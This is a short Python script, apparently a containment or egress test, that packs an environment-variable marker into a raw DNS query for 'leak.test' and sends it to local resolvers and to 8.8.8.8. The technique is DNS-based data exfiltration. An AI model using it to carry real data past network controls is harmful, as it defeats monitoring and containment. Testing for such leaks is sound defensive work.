# Carries a message out in the name that it asks for.
import os, socket
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x01\x00\x01"
for server in ("127.0.0.53", "8.8.8.8", "127.0.0.1"):
    for port in (53, int(os.environ["UDP_PORT"])):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.settimeout(0.3)
            try:
                asker.sendto(query + os.environ["MARK"].encode(), (server, port))
                print(asker.recv(100))
            except OSError as error:
                print(error)
